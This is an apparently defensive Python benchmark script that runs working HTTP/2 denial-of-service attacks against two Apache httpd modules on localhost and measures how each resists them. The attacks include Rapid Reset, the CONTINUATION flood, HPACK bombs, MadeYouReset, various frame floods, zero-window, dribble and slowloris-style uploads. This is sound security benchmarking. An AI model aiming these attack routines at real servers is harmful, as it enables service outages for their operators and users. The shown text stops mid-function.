#!/usr/bin/python3
"""Known HTTP/2 attacks, mod_h2x against Debian's mod_http2, side by side.

Usage: bench/attacks [--seconds N] [--quick] [--only a,b] [--module PATH]
                     [--no-build] [--no-pin] [--doc] [--list]

For each attack class (--list names them) one httpd per module is started
from bench/httpd.conf.tmpl (event MPM, h2c with prior knowledge, mod_cgid,
the test module test/mod_h2x_test, test/cgi-bin plus a counting CGI; the
two configs differ only in the LoadModule line), and the attack runs
against each for --seconds (default 8; --quick: 3) over h2c from a raw
socket client in this process.  Fresh servers for every class, so no class
inherits another's damage; the order of the two modules alternates.  httpd
runs on CPU 0, the attacker and the good client on CPU 1 (--no-pin: no
pinning).  Both modules' shared objects are copied first, so a rebuild
during the run changes nothing; --module takes mod_h2x's from elsewhere (a
snapshot).  Without --no-build, `make` runs first when --module is the
build tree's, and the test module is built when it is missing.

Measured per class and module:

- server RSS growth: peak of VmRSS summed over every process of the server
  (sampled every 0.25 s during the attack and a 1 s tail) minus the sum
  just before the attack;
- server CPU seconds during the attack and the tail: the server's own
  cpuacct cgroup when /sys/fs/cgroup/cpuacct is writable (counts CGI
  processes too), else utime+stime of the process tree from /proc;
- how the server reacted: per attacking connection, the first GOAWAY (its
  error code) or close, and how many frames the attacker had written by
  then; RST_STREAM codes the server sent; the attacker reconnects and goes
  on whenever the server closes a connection, as a real one would;
- a well-behaved client (a separate process, test/h2x/frames.py) on its own
  h2c connection, GET /1k.txt every 50 ms during the attack, a new
  connection every 10 requests and after any failure, 5 s timeout per
  request: requests, failures, p50 and max latency of the successful ones;
- for the CGI Rapid Reset: how many CGI processes were started (each
  appends its pid to a file).

The markdown table goes to stdout (and bench/results/attacks.md, .json);
with --doc also into docs/security.md between the markers
`<!-- bench/attacks: begin -->` and `<!-- bench/attacks: end -->`.
Benchmarks are not tests: nothing here passes or fails, and the figures of
one run on a shared 2-core machine are noisy.
"""

import argparse
import datetime
import json
import os
import re
import select
import shutil
import signal
import socket
import statistics
import struct
import subprocess
import sys
import tempfile
import threading
import time
from collections import Counter
from typing import Callable, Dict, List, Optional, Tuple

BENCH = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, BENCH)
from server import (HTTP2_SO, MODULES, REPO, TEST_SO, Server, make_cert,  # noqa: E402
                    pattern_bytes, raise_nofile)

sys.path.insert(0, os.path.join(REPO, "test"))

DOC = os.path.join(REPO, "docs", "security.md")
RESULTS = os.path.join(BENCH, "results")
BEGIN, END = "<!-- bench/attacks: begin -->", "<!-- bench/attacks: end -->"
TIMEOUT = 5            # httpd's Timeout in this setup
TAIL = 1.0             # measuring goes on this long after the attack
GOOD_INTERVAL = 0.05   # the well-behaved client's request pace
GOOD_TIMEOUT = 5.0     # ... and its per-request timeout
GOOD_PER_CONN = 10     # ... and requests per connection

# -- frames --------------------------------------------------------------------------

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, \
    WINDOW_UPDATE, CONTINUATION = range(10)
F_ES, F_ACK, F_EH = 0x1, 0x1, 0x4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
TYPE_NAMES = {0: "DATA", 1: "HEADERS", 2: "PRIORITY", 3: "RST_STREAM", 4: "SETTINGS",
              5: "PUSH_PROMISE", 6: "PING", 7: "GOAWAY", 8: "WINDOW_UPDATE",
              9: "CONTINUATION"}
ERRORS = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR",
          "SETTINGS_TIMEOUT", "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL",
          "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY",
          "HTTP_1_1_REQUIRED"]
CANCEL = 8
S_INITIAL_WINDOW_SIZE, S_MAX_FRAME_SIZE = 4, 5


NGHTTP2_ERRORS = {-904: "NGHTTP2_ERR_FLOODED", -905: "NGHTTP2_ERR_TOO_MANY_CONTINUATIONS",
                  -903: "NGHTTP2_ERR_BAD_CLIENT_MAGIC", -902: "NGHTTP2_ERR_CALLBACK_FAILURE",
                  -523: "NGHTTP2_ERR_HEADER_COMP", -505: "NGHTTP2_ERR_PROTO"}


def err_name(code: int) -> str:
    """RFC 9113 error code name; a negative nghttp2 library error that a
    server put on the wire as is shows as both."""
    if 0 <= code < len(ERRORS):
        return ERRORS[code]
    signed = code - (1 << 32) if code >= 1 << 31 else code
    if signed in NGHTTP2_ERRORS:
        return f"0x{code:x} = {NGHTTP2_ERRORS[signed]}, not an HTTP/2 code"
    return f"0x{code:x}"


def frame(ftype: int, flags: int, sid: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((ftype, flags)) \
        + struct.pack(">I", sid & 0x7FFFFFFF) + payload


def settings_frame(settings: Optional[Dict[int, int]] = None) -> bytes:
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v)
                                          for k, v in (settings or {}).items()))


def rst_frame(sid: int, code: int) -> bytes:
    return frame(RST_STREAM, 0, sid, struct.pack(">I", code))


def wu_frame(sid: int, inc: int) -> bytes:
    return frame(WINDOW_UPDATE, 0, sid, struct.pack(">I", inc))


# HPACK without state where possible: static-table entries and literals
# "without indexing", so one block can be sent again on any stream.

def hpack_int(value: int, prefix: int, first: int = 0) -> bytes:
    top = (1 << prefix) - 1
    if value < top:
        return bytes((first | value,))
    out = [first | top]
    value -= top
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_str(s) -> bytes:
    b = s.encode() if isinstance(s, str) else s
    return hpack_int(len(b), 7) + b


def lit_name_index(index: int, value: str) -> bytes:
    """Literal without indexing, name from the static table."""
    return hpack_int(index, 4) + hpack_str(value)


def lit_new(name: str, value: str) -> bytes:
    """Literal without indexing, new name."""
    return b"\x00" + hpack_str(name) + hpack_str(value)


def lit_insert(name: str, value: str) -> bytes:
    """Literal with incremental indexing, new name: lands in the dynamic table."""
    return b"\x40" + hpack_str(name) + hpack_str(value)


def request_block(method: str, path: str, authority: str, extra: bytes = b"") -> bytes:
    m = {"GET": b"\x82", "POST": b"\x83"}[method]
    return m + b"\x86" + lit_name_index(1, authority) + lit_name_index(4, path) + extra


def header_frames(sid: int, block: bytes, end_stream: bool, size: int = 16384,
                  end_headers: bool = True) -> Tuple[bytes, int]:
    """HEADERS + CONTINUATION frames carrying `block`; (bytes, frame count)."""
    chunks = [block[i:i + size] for i in range(0, len(block), size)] or [b""]
    out = bytearray()
    for i, chunk in enumerate(chunks):
        flags = 0
        if i == 0 and end_stream:
            flags |= F_ES
        if i == len(chunks) - 1 and end_headers:
            flags |= F_EH
        out += frame(HEADERS if i == 0 else CONTINUATION, flags, sid, chunk)
    return bytes(out), len(chunks)


# -- one attacking connection ---------------------------------------------------------

class Conn:
    """A non-blocking h2c connection that writes what it is given and counts
    what comes back: frame types, RST_STREAM codes, GOAWAY, the close, and
    how many (attack) frames had been written when the server first ended
    the connection."""

    def __init__(self, port: int, settings: Optional[Dict[int, int]] = None,
                 preface: bytes = PREFACE, rcvbuf: Optional[int] = None,
                 send_settings: bool = True):
        self.sock = socket.socket()
        if rcvbuf:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        self.sock.settimeout(5)
        self.sock.connect(("127.0.0.1", port))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.setblocking(False)
        self.t0 = time.monotonic()
        self.out = bytearray()
        self.marks: List[Tuple[int, int]] = []   # (queued byte offset, frames up to it)
        self.queued = self.sent = 0
        self.frames_sent = 0
        self.inbuf = bytearray()
        self.recv = Counter()
        self.rst = Counter()
        self.rst_sids = set()
        self.first_rst: Optional[float] = None
        self.data_bytes = 0
        self.goaway: Optional[Tuple[int, int]] = None
        self.before_goaway: Counter = Counter()   # what the server sent before its GOAWAY
        self.reaction: Optional[Tuple[str, int, float]] = None   # (what, frames, seconds)
        self.closed = False
        self.close_time: Optional[float] = None
        if preface:
            self.queue(preface + (settings_frame(settings) if send_settings else b""), 0)
            self.flush()

    def queue(self, data: bytes, frames: int):
        self.out += data
        self.queued += len(data)
        self.marks.append((self.queued, frames))

    def flush(self) -> bool:
        """Write what the socket takes now; True when nothing is left."""
        while self.out and not self.closed:
            try:
                n = self.sock.send(self.out)
            except (BlockingIOError, InterruptedError):
                return False
            except OSError as e:
                self._read_rest()         # a GOAWAY may wait before the close
                self._closed(f"send: {e.strerror}")
                return False
            del self.out[:n]
            self.sent += n
            while self.marks and self.marks[0][0] <= self.sent:
                self.frames_sent += self.marks.pop(0)[1]
        return not self.out

    def pump(self, limit: int = 1 << 22) -> int:
        """Read what is there (up to `limit` bytes) and account for it."""
        got = 0
        while not self.closed and got < limit:
            try:
                data = self.sock.recv(1 << 18)
            except (BlockingIOError, InterruptedError):
                break
            except OSError as e:
                self._closed(f"reset ({e.strerror})")
                break
            if not data:
                self._closed("closed")
                break
            got += len(data)
            self._parse(data)
        return got

    def _read_rest(self):
        for _ in range(64):
            try:
                data = self.sock.recv(1 << 18)
            except OSError:
                return
            if not data:
                return
            self._parse(data)

    def _parse(self, data: bytes):
        buf = self.inbuf
        buf += data
        pos = 0
        while len(buf) - pos >= 9:
            length = int.from_bytes(buf[pos:pos + 3], "big")
            if len(buf) - pos < 9 + length:
                break
            ftype, flags = buf[pos + 3], buf[pos + 4]
            sid = int.from_bytes(buf[pos + 5:pos + 9], "big") & 0x7FFFFFFF
            body = buf[pos + 9:pos + 9 + length]
            pos += 9 + length
            self.recv[TYPE_NAMES.get(ftype, "UNKNOWN")] += 1
            if ftype == DATA:
                self.data_bytes += length
            elif ftype == RST_STREAM and length == 4:
                self.rst[err_name(int.from_bytes(body, "big"))] += 1
                self.rst_sids.add(sid)
                if self.first_rst is None:
                    self.first_rst = time.monotonic()
            elif ftype == GOAWAY and length >= 8:
                last = int.from_bytes(body[0:4], "big") & 0x7FFFFFFF
                code = int.from_bytes(body[4:8], "big")
                if self.goaway is None:
                    self.goaway = (code, last)
                    self.before_goaway = Counter(self.recv)
                    self._react(f"GOAWAY({err_name(code)})")
            elif ftype == SETTINGS and not flags & F_ACK:
                self.queue(frame(SETTINGS, F_ACK, 0), 0)
            elif ftype == PING and not flags & F_ACK:
                self.queue(frame(PING, F_ACK, 0, bytes(body)), 0)
        del buf[:pos]

    def _react(self, what: str):
        if self.reaction is None:
            self.reaction = (what, self.frames_sent, time.monotonic() - self.t0)

    def _closed(self, how: str):
        if not self.closed:
            self.closed = True
            self.close_time = time.monotonic()
            self._react(f"{how} without GOAWAY" if self.goaway is None else how)

    def wait(self, timeout: float, read: bool = True) -> bool:
        """Wait until the socket is readable (if read) or writable (if
        something is queued); poll(), as descriptors go past select()'s
        1024 with many connections.  True if it is."""
        if self.closed or self.sock is None:
            return False
        mask = (select.POLLIN if read else 0) | (select.POLLOUT if self.out else 0)
        if not mask:
            time.sleep(timeout)
            return False
        p = select.poll()
        p.register(self.sock, mask)
        try:
            return bool(p.poll(max(0, timeout) * 1000))
        except OSError:
            return False

    def drain(self, limit: float, quiet: float = 0.2):
        """Read until the server is silent for `quiet` s, closes, or `limit` s."""
        end = time.monotonic() + limit
        while not self.closed and time.monotonic() < end:
            if not self.wait(min(quiet, end - time.monotonic()), read=True):
                break
            self.pump()
            self.flush()

    def close(self):
        if self.sock is not None:
            try:
                self.sock.close()
            except OSError:
                pass
            self.sock = None
        if not self.closed:
            self.closed = True


# -- attack context and driver --------------------------------------------------------

class Ctx:
    """What an attack function gets: the target, the deadline, its
    connections (closed by the runner afterwards) and a place for notes."""

    def __init__(self, port: int, seconds: float, cgi_tag: str):
        self.port = port
        self.authority = f"127.0.0.1:{port}"
        self.seconds = seconds
        self.t0 = time.monotonic()
        self.deadline = self.t0 + seconds
        self.conns: List[Conn] = []
        self.connect_errors = Counter()
        self.notes: List[str] = []
        self.cgi_tag = cgi_tag
        self.show_frames = True

    def over(self) -> bool:
        return time.monotonic() >= self.deadline

    def connect(self, **kw) -> Optional[Conn]:
        try:
            c = Conn(self.port, **kw)
        except OSError as e:
            self.connect_errors[e.strerror or type(e).__name__] += 1
            time.sleep(0.05)
            return None
        self.conns.append(c)
        return c

    def drive(self, c: Conn, batch: Callable[[], Tuple[bytes, int]], read: bool = True,
              max_out: int = 1 << 16):
        """Write batch() after batch() to `c` until the deadline or the server
        closes it.  read=False: the attacker does not read (the server's
        answers pile up) except 4 times a second, to see whether it said
        something (a GOAWAY waits behind every answer before it)."""
        stalled = None
        peek = time.monotonic() + 0.25
        while not c.closed and not self.over():
            if not read and time.monotonic() >= peek:
                c.pump()
                peek = time.monotonic() + 0.25
            if len(c.out) < max_out:
                data, n = batch()
                c.queue(data, n)
            c.flush()
            if read:
                c.pump()
            if c.out and not c.closed:
                if not read:
                    now = time.monotonic()
                    if stalled is None:
                        stalled = now
                    elif now - stalled > 1.0:
                        c.drain(1.0)
                        stalled = None
                c.wait(0.05, read=read)
            else:
                stalled = None
        if not c.closed:
            c.pump()

    def repeat(self, per_conn: Callable[[Conn], None], **conn_kw):
        """Run `per_conn` on one connection after another until the deadline."""
        while not self.over():
            c = self.connect(**conn_kw)
            if c is not None:
                per_conn(c)


# -- the attacks ------------------------------------------------------------------------

def rapid_reset(path_of: Callable[[Ctx], str]):
    """HEADERS + RST_STREAM(CANCEL) pairs, 20 per write (CVE-2023-44487)."""
    def attack(ctx: Ctx):
        block = request_block("GET", path_of(ctx), ctx.authority)

        def per_conn(c: Conn):
            sid = [1]

            def batch():
                out = bytearray()
                for _ in range(20):
                    out += frame(HEADERS, F_ES | F_EH, sid[0], block) + rst_frame(sid[0], CANCEL)
                    sid[0] += 2
                return bytes(out), 40
            ctx.drive(c, batch)
        ctx.repeat(per_conn)
        answered = sum(c.recv["HEADERS"] for c in ctx.conns)
        ctx.notes.append(f"{answered:,} responses started before the reset arrived")
    return attack


def continuation_flood(ctx: Ctx):
    """HEADERS without END_HEADERS, then CONTINUATION frames with 4 KB of new
    header fields each, never ending the block (CVE-2024-27316)."""
    payload = b"".join(lit_new(f"x-flood-{i}", "v" * 1000) for i in range(4))
    cont = frame(CONTINUATION, 0, 1, payload) * 10

    def per_conn(c: Conn):
        first = [True]

        def batch():
            if first[0]:
                first[0] = False
                return frame(HEADERS, F_ES, 1, request_block("GET", "/1k.txt", ctx.authority)), 1
            return cont, 10
        ctx.drive(c, batch)
    ctx.repeat(per_conn)


BOMB_REFS = 3 * 16384      # one-byte references per header block (~197 MB decoded)
BOMB_VALUE = "b" * 4000    # one dynamic-table entry of ~4 KB (table: 4096)


def hpack_bomb(trailers: bool):
    """One ~4 KB dynamic-table entry, then a header block (HEADERS + 3
    CONTINUATION) of 49,152 one-byte references to it, on stream after
    stream; in the request head, or in request trailers after a DATA frame
    of a POST to the discarding handler (CVE-2016-6581 class)."""
    def attack(ctx: Ctx):
        refs = b"\xbe" * BOMB_REFS        # 0x80 | 62: the newest dynamic entry
        insert = lit_insert("x-bomb", BOMB_VALUE)

        def per_conn(c: Conn):
            sid = [1]

            def batch():
                s = sid[0]
                sid[0] += 2
                first = s == 1
                if not trailers:
                    block = request_block("GET", "/1k.txt", ctx.authority,
                                          (insert if first else b"") + refs)
                    return header_frames(s, block, end_stream=True)
                head = request_block("POST", "/discard?discard=1", ctx.authority,
                                     insert if first else b"")
                out, n = header_frames(s, head, end_stream=False)
                out += frame(DATA, 0, s, b"0123456789")
                t, tn = header_frames(s, refs, end_stream=True)
                return out + t, n + 1 + tn
            ctx.drive(c, batch, max_out=1 << 17)
        ctx.repeat(per_conn)
    return attack


def flood(make: Callable[[], bytes], per_batch: int, read: bool):
    """The same frame again and again, `per_batch` per write."""
    def attack(ctx: Ctx):
        data = make() * per_batch

        def per_conn(c: Conn):
            ctx.drive(c, lambda: (data, per_batch), read=read)
        ctx.repeat(per_conn, rcvbuf=None if read else 4096)
    return attack


def empty_data_flood(ctx: Ctx):
    """A POST to the discarding handler, then zero-length DATA frames without
    END_STREAM, forever; a new stream when the server resets one
    (CVE-2019-9518)."""
    def per_conn(c: Conn):
        sid = [0]

        def batch():
            out, n = b"", 0
            if sid[0] == 0 or sid[0] in c.rst_sids:
                sid[0] = sid[0] + 2 if sid[0] else 1
                out, n = header_frames(sid[0], request_block("POST", "/discard?discard=1",
                                                             ctx.authority), end_stream=False)
            return out + frame(DATA, 0, sid[0]) * 100, n + 100
        ctx.drive(c, batch)
    ctx.repeat(per_conn)


def made_you_reset(ctx: Ctx):
    """GET /1k.txt, then WINDOW_UPDATE(+2^31-1) on the same stream, which
    overflows its window: the server has to reset the stream itself,
    FLOW_CONTROL_ERROR (CVE-2025-8671); 20 streams per write."""
    block = request_block("GET", "/1k.txt", ctx.authority)

    def per_conn(c: Conn):
        sid = [1]

        def batch():
            out = bytearray()
            for _ in range(20):
                out += frame(HEADERS, F_ES | F_EH, sid[0], block) + wu_frame(sid[0], 0x7FFFFFFF)
                sid[0] += 2
            return bytes(out), 40
        ctx.drive(c, batch)
    ctx.repeat(per_conn)


def _hold(ctx: Ctx, conns: int, open_conn: Callable[[], Optional[Conn]],
          tick: Optional[Callable[[Conn], None]] = None, poll: float = 0.05):
    """Keep `conns` connections open until the deadline, reading them (and
    calling tick(conn) each round); reopen those the server closes."""
    live: List[Conn] = []
    while len(live) < conns and not ctx.over():
        c = open_conn()
        if c is not None:
            live.append(c)
    while not ctx.over():
        fds = {c.sock.fileno(): c for c in live if not c.closed}
        if fds:
            p = select.poll()
            for fd in fds:
                p.register(fd, select.POLLIN)
            try:
                ready = p.poll(poll * 1000)
            except OSError:
                ready = []
            for fd, _ in ready:
                fds[fd].pump()
        else:
            time.sleep(poll)
        for c in live:
            if not c.closed:
                if tick:
                    tick(c)
                c.flush()
        for i, c in enumerate(live):
            if c.closed and not ctx.over():
                n = open_conn()
                if n is not None:
                    live[i] = n


def zero_window(ctx: Ctx):
    """10 connections with SETTINGS_INITIAL_WINDOW_SIZE=0, each opening 100
    streams for a 10 MB file and never opening a window (CVE-2023-43622 class)."""
    block = request_block("GET", "/10m.bin", ctx.authority)

    def open_conn():
        c = ctx.connect(settings={S_INITIAL_WINDOW_SIZE: 0})
        if c is not None:
            c.queue(b"".join(frame(HEADERS, F_ES | F_EH, 1 + 2 * i, block) for i in range(100)),
                    100)
            c.flush()
        return c
    _hold(ctx, 10, open_conn)
    _stream_notes(ctx)


def dribble(ctx: Ctx):
    """4 connections x 25 streams for a 10 MB file with
    SETTINGS_INITIAL_WINDOW_SIZE=0 (the connection window opened wide), then
    WINDOW_UPDATE(+1) per stream, again and again: the server can only send
    1-byte DATA frames (CVE-2019-9511 data dribble)."""
    block = request_block("GET", "/10m.bin", ctx.authority)
    sids = [1 + 2 * i for i in range(25)]
    nudge = b"".join(wu_frame(s, 1) for s in sids)

    def open_conn():
        c = ctx.connect(settings={S_INITIAL_WINDOW_SIZE: 0})
        if c is not None:
            c.queue(wu_frame(0, 1 << 30)
                    + b"".join(frame(HEADERS, F_ES | F_EH, s, block) for s in sids), 26)
            c.flush()
        return c

    def tick(c: Conn):
        if len(c.out) < 1 << 14:
            c.queue(nudge, len(sids))
    _hold(ctx, 4, open_conn, tick, poll=0.005)
    data_frames = sum(c.recv["DATA"] for c in ctx.conns)
    data_bytes = sum(c.data_bytes for c in ctx.conns)
    ctx.notes.append(f"server sent {data_frames:,} DATA frames, {data_bytes:,} bytes")
    _stream_notes(ctx)


def slow_upload(ctx: Ctx):
    """4 connections x 50 uploads (content-length 1000) to a CGI, one byte
    per stream every 250 ms: each stream keeps a handler reading a body
    that hardly comes (slowloris on streams)."""
    sids = [1 + 2 * i for i in range(50)]
    block = request_block("POST", cgi_path(ctx), ctx.authority, lit_name_index(28, "1000"))
    nudge = b"".join(frame(DATA, 0, s, b"x") for s in sids)
    last = {}

    def open_conn():
        c = ctx.connect()
        if c is not None:
            c.queue(b"".join(frame(HEADERS, F_EH, s, block) for s in sids), len(sids))
            c.flush()
            last[id(c)] = time.monotonic()
        return c

    def tick(c: Conn):
        now = time.monotonic()
        if now - last.get(id(c), now) >= 0.25:
            last[id(c)] = now
            c.queue(nudge, len(sids))
    _hold(ctx, 4, open_conn, tick, poll=0.05)
    _stream_notes(ctx)


def half_open(ctx: Ctx):
    """1000 connections that send half the client preface and go silent."""
    ctx.show_frames = False
    half = PREFACE[:len(PREFACE) // 2]
    _hold(ctx, 1000, lambda: ctx.connect(preface=half, send_settings=False), poll=0.2)
    closed = [c for c in ctx.conns if c.close_time is not None]
    if closed:
        first = min(c.close_time - c.t0 for c in closed)
        ctx.notes.append(f"{len(closed):,} connections closed by the server (reopened), "
                         f"the first after {first:.1f} s")
    else:
        ctx.notes.append("no connection closed by the server")


def _stream_notes(ctx: Ctx):
    firsts = [c.first_rst - ctx.t0 for c in ctx.conns if c.first_rst is not None]
    if firsts:
        ctx.notes.append(f"first RST_STREAM {min(firsts):.1f} s into the attack")
    heads = sum(c.recv["HEADERS"] for c in ctx.conns)
    ctx.notes.append(f"{heads:,} response HEADERS")


def baseline(ctx: Ctx):
    """No attack: the well-behaved client alone."""
    ctx.show_frames = False
    while not ctx.over():
        time.sleep(0.05)


def cgi_path(ctx: Ctx) -> str:
    return f"/cgi-bin/count.sh?{ctx.cgi_tag}"


class Attack:
    def __init__(self, name: str, title: str, fn: Callable[[Ctx], None], cgi: bool = False):
        self.name, self.title, self.fn, self.cgi = name, title, fn, cgi


ATTACKS = [
    Attack("baseline", "no attack (the well-behaved client alone)", baseline),
    Attack("rapid-reset", "Rapid Reset: HEADERS + RST_STREAM, static 1 KB file",
           rapid_reset(lambda ctx: "/1k.txt")),
    Attack("rapid-reset-cgi", "Rapid Reset against a CGI URL", rapid_reset(cgi_path), cgi=True),
    Attack("continuation", "CONTINUATION flood (4 KB of fields per frame, no END_HEADERS)",
           continuation_flood),
    Attack("hpack-headers", "HPACK bomb in request headers (~197 MB decoded per block)",
           hpack_bomb(False)),
    Attack("hpack-trailers", "HPACK bomb in request trailers (~197 MB decoded per block)",
           hpack_bomb(True)),
    Attack("settings", "SETTINGS flood, ACKs not read",
           flood(lambda: settings_frame({S_MAX_FRAME_SIZE: 16384}), 100, read=False)),
    Attack("ping", "PING flood, ACKs not read",
           flood(lambda: frame(PING, 0, 0, b"h2xattck"), 100, read=False)),
    Attack("window-update", "WINDOW_UPDATE(+1) flood on the connection",
           flood(lambda: wu_frame(0, 1), 100, read=True)),
    Attack("empty-data", "empty DATA frames on an open request", empty_data_flood),
    Attack("unknown", "unknown frame type 0xfa flood (16-byte payload)",
           flood(lambda: frame(0xFA, 0, 0, b"0123456789abcdef"), 100, read=True)),
    Attack("madeyoureset", "MadeYouReset: GET + WINDOW_UPDATE overflowing the stream window",
           made_you_reset),
    Attack("zero-window", "zero window: 10 conns x 100 streams of a 10 MB file, window never "
           "opened", zero_window),
    Attack("dribble", "data dribble: 4 conns x 25 streams, stream windows opened 1 byte at "
           "a time", dribble),
    Attack("slow-upload", "slow uploads: 4 conns x 50 streams to a CGI, 1 byte per stream "
           "every 250 ms", slow_upload, cgi=True),
    Attack("half-open", "1000 connections sending half a preface", half_open),
]

COUNT_CGI = """#!/bin/sh
# bench/attacks: appends its pid to @DIR@/<query string>, answers at once.
case "$QUERY_STRING" in
    ''|*[!A-Za-z0-9_-]*) ;;
    *) echo $$ >> "@DIR@/$QUERY_STRING" ;;
esac
printf 'Content-Type: text/plain\\r\\n\\r\\nstarted\\n'
"""


# -- the well-behaved client (a child process) ------------------------------------------

def good_client_main() -> int:
    """The port on stdin's first line, then GET /1k.txt every GOOD_INTERVAL s
    until 'stop' on stdin; JSON to stdout.  Started before the server is up,
    so that its start-up overlaps httpd's."""
    from h2x.frames import FrameClient
    line = sys.stdin.readline()
    if not line.strip():
        return 1
    port = int(line)
    lat: List[float] = []
    fails: Counter = Counter()
    retried = 0
    c: Optional[FrameClient] = None
    on_conn = 0

    def attempt() -> Optional[str]:
        """One GET on the current connection (a new one when needed);
        None when it was served whole, else why not."""
        nonlocal c, on_conn
        if c is None or on_conn >= GOOD_PER_CONN or c.goaways or c.closed:
            if c is not None:
                c.close()
            c, on_conn = None, 0
            nc = FrameClient("127.0.0.1", port, timeout=GOOD_TIMEOUT)
            nc.connect()
            c = nc
        on_conn += 1
        sid = c.request("GET", "/1k.txt")
        left = max(0.1, GOOD_TIMEOUT - (time.monotonic() - t0))
        if not c.wait_stream_end(sid, left):
            return "connection closed" if c.closed else "timeout"
        rec = c.stream(sid)
        if rec.ended_by != "END_STREAM":
            return f"{rec.ended_by} {rec.rst_name or ''}".strip()
        if rec.status != 200 or len(rec.data) != 1024:
            return f"status {rec.status}, {len(rec.data)} bytes"
        return None

    def one(counted: bool) -> None:
        nonlocal c, t0, retried
        t0 = time.monotonic()
        try:
            why = attempt()
            if why == "GOAWAY":
                # Above the GOAWAY's last stream id: never processed, safe
                # to retry on a new connection (RFC 9113 section 6.8), as
                # browsers do. Counted apart, the latency includes it.
                if counted:
                    retried += 1
                why = attempt()
        except (OSError, ConnectionError) as e:
            why = f"connect: {type(e).__name__}"
        dt = time.monotonic() - t0
        if why is not None:
            if c is not None:
                c.close()
            c = None
        if counted:
            if why is None:
                lat.append(dt)
            else:
                fails[why] += 1

    t0 = time.monotonic()
    one(counted=False)
    print("ready", flush=True)
    next_t = time.monotonic()
    while True:
        r, _, _ = select.select([sys.stdin], [], [], max(0.0, next_t - time.monotonic()))
        if r:
            break
        next_t = time.monotonic() + GOOD_INTERVAL
        one(counted=True)
    lat.sort()
    print(json.dumps({"ok": len(lat), "failed": sum(fails.values()), "why": dict(fails),
                      "retried": retried,
                      "p50_ms": statistics.median(lat) * 1000 if lat else None,
                      "max_ms": lat[-1] * 1000 if lat else None}), flush=True)
    return 0


# -- measuring one attack on one server ---------------------------------------------------

class Monitor(threading.Thread):
    """Peak RSS of the server's process tree, sampled every 0.25 s."""

    def __init__(self, server: Server):
        super().__init__(daemon=True)
        self.server = server
        self.peak = 0
        self.halt = threading.Event()

    def run(self):
        while not self.halt.is_set():
            try:
                self.peak = max(self.peak, self.server.rss_bytes())
            except Exception:   # noqa: BLE001 - a process that vanished mid-scan
                pass
            self.halt.wait(0.25)

    def stop(self) -> int:
        self.halt.set()
        self.join()
        self.peak = max(self.peak, self.server.rss_bytes())
        return self.peak


def cpu_seconds(server: Server) -> float:
    snap = server.cpu_snapshot()
    return snap["cgroup"] if snap["cgroup"] is not None else snap["proc"]


def mpm_children(pid: int) -> set:
    out = set()
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        try:
            with open(f"/proc/{name}/stat") as f:
                rest = f.read().rsplit(")", 1)[1].split()
            if int(rest[1]) == pid:
                out.add(int(name))
        except (OSError, IndexError, ValueError):
            pass
    return out


CRASH_RE = re.compile(r"exit signal|AddressSanitizer|runtime error:|Segmentation fault|"
                      r"AH00051|AH00052|scoreboard is full", re.I)


spawned: List[subprocess.Popen] = []


def spawn_good_client() -> subprocess.Popen:
    p = subprocess.Popen([sys.executable, os.path.abspath(__file__), "--good-client"],
                         stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    spawned.append(p)
    return p


def run_one(attack: Attack, server: Server, seconds: float, piddir: str,
            good: subprocess.Popen) -> Dict:
    tag = f"{server.module}-{attack.name}"
    countfile = os.path.join(piddir, tag)
    good.stdin.write(f"{server.http_port}\n")
    good.stdin.flush()
    good.stdout.readline()                           # "ready"
    try:
        log_at = os.path.getsize(server.error_log)
    except OSError:
        log_at = 0
    children = mpm_children(server.pid)
    rss0, cpu0 = server.rss_bytes(), cpu_seconds(server)
    mon = Monitor(server)
    mon.start()
    ctx = Ctx(server.http_port, seconds, tag)
    error = None
    try:
        attack.fn(ctx)
    except Exception as e:     # noqa: BLE001 - an attack that breaks is a result too
        error = f"attacker error: {type(e).__name__}: {e}"
    for c in ctx.conns:
        c.close()
    try:
        good.stdin.write("stop\n")
        good.stdin.flush()
    except OSError:
        pass
    time.sleep(TAIL)
    cpu1 = cpu_seconds(server)
    peak = mon.stop()
    rss1 = server.rss_bytes()
    try:
        out, _ = good.communicate(timeout=GOOD_TIMEOUT + 5)
        good_res = json.loads(out.strip().splitlines()[-1])
    except (subprocess.TimeoutExpired, ValueError, IndexError):
        good.kill()
        good.wait()
        good_res = {"ok": 0, "failed": 0, "why": {"good client did not report": 1},
                    "p50_ms": None, "max_ms": None}
    cgi = None
    if attack.cgi:
        try:
            with open(countfile) as f:
                cgi = sum(1 for _ in f)
        except OSError:
            cgi = 0
    crashes = []
    try:
        with open(server.error_log, errors="replace") as f:
            f.seek(log_at)
            crashes = [ln.strip() for ln in f if CRASH_RE.search(ln)]
    except OSError:
        pass
    alive = server.proc is not None and server.proc.poll() is None
    lost = len(children - mpm_children(server.pid)) if alive else None
    return {
        "attack": attack.name, "module": server.module, "seconds": seconds,
        "rss_before": rss0, "rss_peak_growth": max(0, peak - rss0),
        "rss_end_growth": rss1 - rss0,
        "cpu_s": cpu1 - cpu0, "good": good_res, "cgi_started": cgi,
        "reaction": summarize(ctx), "frames_total": sum(c.frames_sent for c in ctx.conns),
        "conns": len(ctx.conns), "connect_errors": dict(ctx.connect_errors),
        "rst": dict(sum((c.rst for c in ctx.conns), Counter())),
        "notes": ctx.notes + ([error] if error else []),
        "crash_log": crashes[:5], "children_lost": lost, "server_alive": alive,
    }


def summarize(ctx: Ctx) -> str:
    """The server's reaction across the attacking connections, one line.

    A connection that was still open when the attack ended counts as "none"
    only if no connection saw a reaction; otherwise it is the one the
    deadline cut short."""
    by: Dict[str, List[Conn]] = {}
    for c in ctx.conns:
